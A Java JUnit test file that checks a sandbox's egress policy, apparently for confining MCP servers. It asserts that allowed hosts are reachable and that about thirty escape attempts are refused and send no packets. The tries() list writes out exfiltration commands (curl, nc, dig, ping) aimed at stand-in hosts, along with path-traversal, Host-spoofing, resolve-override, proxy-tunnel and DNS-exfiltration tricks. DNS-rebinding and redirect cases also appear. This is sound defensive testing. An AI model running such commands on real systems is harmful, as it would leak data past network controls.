package io.mcpsf.boundary;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;

import io.mcpsf.boundary.Admission.Ports;
import io.mcpsf.boundary.Admission.Range;
import io.mcpsf.boundary.Admission.Site;
import io.mcpsf.linux.PacketRing;
import io.mcpsf.model.Cidr;
import io.mcpsf.model.NetworkObservation.EgressRefused;
import io.mcpsf.model.NetworkObservation.RequestForwarded;
import io.mcpsf.web.PublicAddress;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.UnknownHostException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;

/** A server in use reaches what its policy names, and nothing else by any way. */
@Tag("chamber")
@EnabledIf("io.mcpsf.boundary.Needs#root")
final class AdmittedEgressTest {

    private static final String MARK = "mcpsf-escape-marker";
    private static final String ELSEWHERE = "198.51.100.77";
    private static final String BYTES =
            new String(InetAddress.ofLiteral(ELSEWHERE).getAddress(), StandardCharsets.ISO_8859_1);

    @TempDir Path folder;
    private final List<String> asked = new CopyOnWriteArrayList<>();
    private final AtomicInteger rebound = new AtomicInteger();
    private final AtomicInteger leaked = new AtomicInteger();
    private final AtomicBoolean stop = new AtomicBoolean();
    private final List<Thread> watchers = new ArrayList<>();
    private HttpServer web;
    private ServerSocket echo;
    private Inside inside;
    private int port;

    @BeforeEach
    void open() throws Exception {
        web = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        web.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        web.createContext("/", this::answer);
        web.start();
        port = web.getAddress().getPort();
        echo = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
        Thread.ofVirtual().start(this::echo);
        var all =
                List.of(new Ports(port, port), new Ports(echo.getLocalPort(), echo.getLocalPort()));
        var admission =
                new Admission(
                        List.of(
                                new Site("api.example", all, Set.of("GET"), List.of("/repos/**")),
                                new Site("echo.example", all, Set.of(), List.of()),
                                new Site("inner.example", all, Set.of(), List.of()),
                                new Site("rebind.example", all, Set.of(), List.of())),
                        List.of(new Range(Cidr.parse("127.0.0.1/32"), all)),
                        List.of(new Ports(22, 22)),
                        List.of(),
                        true);
        var forwarder =
                new Forwarder(
                        new Upstreams(SystemTrust::sockets),
                        this::resolve,
                        PublicAddress::mayBeReached);
        inside =
                new Inside(
                        folder,
                        BoundarySpec.Options.plain()
                                .with(
                                        EgressPolicy.guarding(
                                                admission,
                                                8,
                                                new LinkBounds(
                                                        100,
                                                        100,
                                                        10_000_000,
                                                        true,
                                                        admission.blocked()))),
                        new Backbone(Clock.systemUTC(), forwarder));
        for (NetworkInterface device : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            if (device.isUp()) {
                PacketRing ring = PacketRing.open(device.getName(), 4);
                ring.begin();
                watchers.add(Thread.ofPlatform().daemon().start(() -> watch(ring)));
            }
        }
    }

    @AfterEach
    void close() throws Exception {
        stop.set(true);
        for (Thread watcher : watchers) {
            watcher.join();
        }
        inside.close();
        echo.close();
        web.stop(0);
    }

    @Test
    void whatIsNamedIsReachedByItsName() throws Exception {
        assertThat(curl("http://api.example:" + port + "/repos/one")).isEqualTo("GET /repos/one");
        RequestForwarded told = inside.await(RequestForwarded.class, _ -> true);
        assertThat(told.status()).isEqualTo(200);
        assertThat(
                        inside.run(
                                        "sh",
                                        "-c",
                                        "printf 'hello\\n' | nc -w 5 -N echo.example "
                                                + echo.getLocalPort())
                                .stdout())
                .isEqualTo("hello\n");
    }

    @Test
    void thirtyTriesToLeaveSendNoPacketAndAreToldAndOneThatMayIsSeen() throws Exception {
        List<String> tries = tries();
        assertThat(tries).hasSizeGreaterThanOrEqualTo(30);
        for (String line : tries) {
            inside.run("sh", "-c", line);
        }

        assertThat(asked).as("requests at the real host").isEmpty();
        assertThat(leaked.get()).as("packets on the host").isZero();
        List<EgressRefused> told = inside.all(EgressRefused.class);
        assertThat(told.stream().map(EgressRefused::protocol).distinct())
                .contains("dns", "tcp", "http");

        // The watch can see: this may leave.
        curl("http://api.example:" + port + "/repos/" + MARK);
        long deadline = System.nanoTime() + 5_000_000_000L;
        while (leaked.get() == 0 && System.nanoTime() < deadline) {
            Thread.onSpinWait();
        }
        assertThat(leaked.get()).isPositive();
    }

    @Test
    void aNameThatChangesItsMindIsJudgedByTheAddressThatIsDialled() throws Exception {
        assertThat(curl("http://rebind.example:" + port + "/first")).isEqualTo("GET /first");
        assertThat(curl("http://rebind.example:" + port + "/second")).isEqualTo("Bad Gateway\n");
        assertThat(asked).containsExactly("GET /first");
        assertThat(inside.await(EgressRefused.class, _ -> true).why())
                .isEqualTo("no public address");
    }

    @Test
    void aRedirectIsFollowedByNobody() throws Exception {
        String said = curl("-L", "http://api.example:" + port + "/repos/redirect");

        assertThat(said).isEmpty();
        assertThat(asked).containsExactly("GET /repos/redirect");
        inside.await(EgressRefused.class, r -> r.destination().equals("other.example"));
    }

    /** Each by a way of its own; all carry the mark or the address of somewhere else. */
    private List<String> tries() {
        String at = " -s -m 3 -d " + MARK + " ";
        String api = "http://api.example:" + port;
        return List.of(
                "curl" + at + "http://other.example/",
                "curl" + at + "https://other.example/",
                "curl" + at + "http://other.example:" + port + "/",
                "curl" + at + "http://" + ELSEWHERE + "/",
                "curl" + at + "https://" + ELSEWHERE + "/",
                "curl" + at + "http://" + ELSEWHERE + ":" + port + "/",
                "curl" + at + "http://[2001:db8::77]/",
                "curl" + at + "-6 http://other.example/",
                "curl" + at + api + "/repos/x",
                "curl -s -m 3 " + api + "/admin?" + MARK,
                "curl -s -m 3 --path-as-is " + api + "/repos/../admin?" + MARK,
                "curl -s -m 3 " + api + "/repos/%2e%2e/admin?" + MARK,
                "curl -s -m 3 -H 'Host: other.example' " + api + "/repos/" + MARK,
                "curl -s -m 3 -H 'Host: other.example:" + port + "' " + api + "/repos/" + MARK,
                "curl -s -m 3 --connect-to ::" + ELSEWHERE + ": " + api + "/repos/" + MARK,
                "curl -s -m 3 --resolve api.example:"
                        + port
                        + ":"
                        + ELSEWHERE
                        + " "
                        + api
                        + "/repos/"
                        + MARK,
                "curl" + at + "http://api.example:22/repos/",
                "curl" + at + "http://api.example:81/repos/",
                "curl" + at + "http://inner.example:" + port + "/",
                "curl -s -m 3 -p -x http://api.example:" + port + " http://other.example/" + MARK,
                "curl -s -m 3 -x " + api + " http://other.example/" + MARK,
                "printf 'EHLO " + MARK + "\\r\\n' | nc -w 2 -N " + ELSEWHERE + " 25",
                "echo " + MARK + " | nc -w 2 -N " + ELSEWHERE + " 6667",
                "echo " + MARK + " | nc -w 2 -N api.example " + port,
                "echo " + MARK + " | nc -u -w 1 " + ELSEWHERE + " 5353",
                "echo " + MARK + " | nc -u -w 1 2001:db8::77 5353",
                "dig +tries=1 +time=2 " + MARK + ".other.example",
                "dig +tries=1 +time=2 @" + ELSEWHERE + " " + MARK + ".other.example",
                "dig +tries=1 +time=2 +tcp @" + ELSEWHERE + " " + MARK + ".other.example",
                "dig +tries=1 +time=2 TXT " + MARK + ".api.example",
                "ping -c 1 -W 1 " + ELSEWHERE,
                "curl -s -m 3 -H 'Upgrade: websocket' -H 'Sec-WebSocket-Key: AAAA' "
                        + api
                        + "/"
                        + MARK,
                "curl -s -m 3 --http2-prior-knowledge " + api + "/repos/" + MARK);
    }

    private String curl(String... more) throws InterruptedException {
        var argv = new ArrayList<>(List.of("curl", "-sS", "-m", "10"));
        argv.addAll(List.of(more));
        return inside.run(argv.toArray(String[]::new)).stdout();
    }

    private InetAddress[] resolve(String host) throws UnknownHostException {
        String address =
                switch (host) {
                    case "api.example", "echo.example" -> "127.0.0.1";
                    case "inner.example" -> "10.9.9.9";
                    case "rebind.example" ->
                            rebound.getAndIncrement() == 0 ? "127.0.0.1" : "127.0.0.9";
                    default -> ELSEWHERE;
                };
        return new InetAddress[] {InetAddress.ofLiteral(address)};
    }

    private void answer(HttpExchange exchange) throws IOException {
        try (exchange) {
            String path = exchange.getRequestURI().getPath();
            if (!path.contains(MARK)) {
                asked.add(exchange.getRequestMethod() + " " + path);
            }
            byte[] body =
                    (exchange.getRequestMethod() + " " + path).getBytes(StandardCharsets.UTF_8);
            if (path.endsWith("redirect")) {
                exchange.getResponseHeaders().add("Location", "http://other.example:" + port + "/");
                exchange.sendResponseHeaders(302, -1);
            } else {
                exchange.sendResponseHeaders(200, body.length);
                exchange.getResponseBody().write(body);
            }
        }
    }

    private void echo() {
        while (true) {
            try (Socket one = echo.accept()) {
                one.getInputStream().transferTo(one.getOutputStream());
            } catch (IOException closed) {
                return;
            }
        }
    }

    private void watch(PacketRing ring) {
        try (ring) {
            while (!stop.get()) {
                ring.read(
                        20,
                        (outgoing, nanos, bytes, frame) -> {
                            String text = new String(frame, StandardCharsets.ISO_8859_1);
                            if (text.contains(MARK) || text.contains(BYTES)) {
                                leaked.incrementAndGet();
                            }
                        });
            }
        }
    }
}
